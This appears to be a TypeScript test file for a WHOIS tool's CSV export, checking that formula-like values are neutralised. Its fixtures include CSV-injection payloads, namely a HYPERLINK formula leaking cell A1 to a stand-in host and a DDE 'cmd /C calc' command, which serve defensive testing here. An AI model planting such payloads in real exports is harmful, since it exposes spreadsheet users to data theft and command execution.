import { readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { csvRow } from '../../src/cli/csv.js';
import { fixtureFolder } from '../replay/fixture-folder.js';
import { anyText } from '../support/any-text.js';
import { runHere } from './port43.js';

/** What a spreadsheet runs, or reads as something else than text, at the beginning of a cell (OWASP, "CSV Injection"). */
const RUN = /^\s*[=+\-@＝＋－＠]/u;

const HOSTILE = `Domain Name: EXAMPLE.COM
Registrar: =HYPERLINK("https://shop.example/?"&A1,"Example Registrar")
Registrant City: @SUM(1+1)*cmd|' /C calc'!A0
Registrar Abuse Contact Phone: +1.5550100
Registrant Name: -2+3
Registrant Organization: \t=1+1
Registry Expiry Date: 2095-08-13T04:00:00Z
Domain Status: ok https://icann.org/epp#ok
Name Server: ns1.example.com
`;

const FIELDS = [
  'registrar.name',
  'registrant_contacts.0.city',
  'abuse_contact.phone',
  'registrant_contacts.0.name',
  'registrant_contacts.0.organization',
  'expires_on',
];

/** The cells of a row, as RFC 4180 has them. */
function cells(row: string): string[] {
  expect(row.endsWith('\n')).toBe(true);
  const found: string[] = [];
  for (let left: string | undefined = row.slice(0, -1); left !== undefined; ) {
    const [, quoted, plain = '', rest]: (string | undefined)[] =
      /^(?:"((?:[^"]|"")*)"|([^",]*))(?:,(.*))?$/s.exec(left) ?? [];
    found.push(quoted?.replaceAll('""', '"') ?? plain);
    left = rest;
  }
  return found;
}

const replay = async () => [
  '--replay',
  await fixtureFolder({
    'whois.verisign-grs.com/example.com.txt': HOSTILE,
    'whois.verisign-grs.com/example-free.com.txt': 'No match for "EXAMPLE-FREE.COM".\n',
  }),
];

describe('CSV', () => {
  test('--csv: no spreadsheet runs what a server or a list contains', async () => {
    const { code, stdout } = await runHere([
      '--fields',
      FIELDS.join(),
      '--csv',
      'example.com',
      ...(await replay()),
    ]);
    expect(code).toBe(0);
    const [header = '', row = ''] = stdout.split(/(?<=\n)/);
    expect(header).toBe(`input,${FIELDS.join()},error\n`);
    expect(cells(row)).toEqual([
      'example.com',
      `'=HYPERLINK("https://shop.example/?"&A1,"Example Registrar")`,
      `'@SUM(1+1)*cmd|' /C calc'!A0`,
      "'+1.5550100",
      "'-2+3",
      "'=1+1",
      '2095-08-13T04:00:00+00:00',
      '',
    ]);
  });

  test('--csv-raw: values without changes, for programs', async () => {
    const args = ['--fields', FIELDS.join(), '--csv-raw', 'example.com', ...(await replay())];
    const { code, stdout } = await runHere(args);
    expect(code).toBe(0);
    expect(cells(stdout.split(/(?<=\n)/)[1] ?? '').slice(1, -2)).toEqual([
      '=HYPERLINK("https://shop.example/?"&A1,"Example Registrar")',
      "@SUM(1+1)*cmd|' /C calc'!A0",
      '+1.5550100',
      '-2+3',
      '=1+1',
    ]);
    expect(
      await runHere(['--fields', 'status', '--csv', '--csv-raw', 'example.com', ...(await replay())]),
    ).toMatchObject({ code: 0, stdout: 'input,status,error\nexample.com,registered,\n' });
    expect(await runHere(['--csv-raw', 'example.com', ...(await replay())])).toMatchObject({
      code: 2,
      stderr: expect.stringMatching(/--csv-raw needs --fields/),
    });
  });

  test.each(['--csv', '--csv-raw'])(
    'bulk %s resumes with names that start like formulas, each once',
    async (form) => {
      const args = await replay();
      const folder = await fixtureFolder({
        'names.txt': '=example.com\n-example\n@example-free.com\n+"a",b\n',
      });
      const [list, out] = [join(folder, 'names.txt'), join(folder, 'out.csv')];
      const bulk = () => runHere(['bulk', list, '--out', out, '--fields', 'status', form, ...args]);
      await bulk();
      const whole = await readFile(out, 'utf8');
      const [header, ...rows] = whole.split(/(?<=\n)/);
      expect(header).toBe('input,line,status,error\n');
      const inputs = rows.map((row) => cells(row)[0]).sort();
      const names = ['=example.com', '-example', '@example-free.com', '+"a",b'];
      expect(inputs).toEqual(names.map((name) => (form === '--csv' ? `'${name}` : name)).sort());

      expect(await bulk()).toMatchObject({ code: 0, stderr: expect.stringMatching(/has a result already/) });
      await writeFile(out, [header, ...rows.slice(0, 2)].join(''));
      await bulk();
      expect((await readFile(out, 'utf8')).split('\n').sort()).toEqual(whole.split('\n').sort());
    },
  );

  test('any value: no cell is run, and nothing is lost', () => {
    const beginnings = fc.constantFrom(
      '=',
      '+',
      '-',
      '@',
      '\t=',
      '\r=',
      '\n@',
      ' =',
      '\u00a0+',
      '＝',
      '＋1',
      '',
      '\ufeff=',
    );
    fc.assert(
      fc.property(fc.array(fc.tuple(beginnings, anyText()), { minLength: 1 }), (values) => {
        const texts = values.map((parts) => parts.join(''));
        const safe = cells(csvRow(texts, { raw: false }));
        const raw = cells(csvRow(texts, { raw: true }));
        expect(safe).toHaveLength(texts.length);
        for (const [index, cell] of safe.entries()) {
          expect(cell).not.toMatch(RUN);
          expect(cell).toBe(RUN.test(raw[index] ?? '') ? `'${raw[index]}` : raw[index]);
        }
      }),
    );
  });

  test('a list in a cell starts with its first value', () => {
    expect(csvRow([['-1', '+2'], [null, '=3'], { a: 1 }, null, 7], { raw: false })).toBe(
      `'-1 +2,'=3,"{""a"":1}",,7\n`,
    );
  });
});
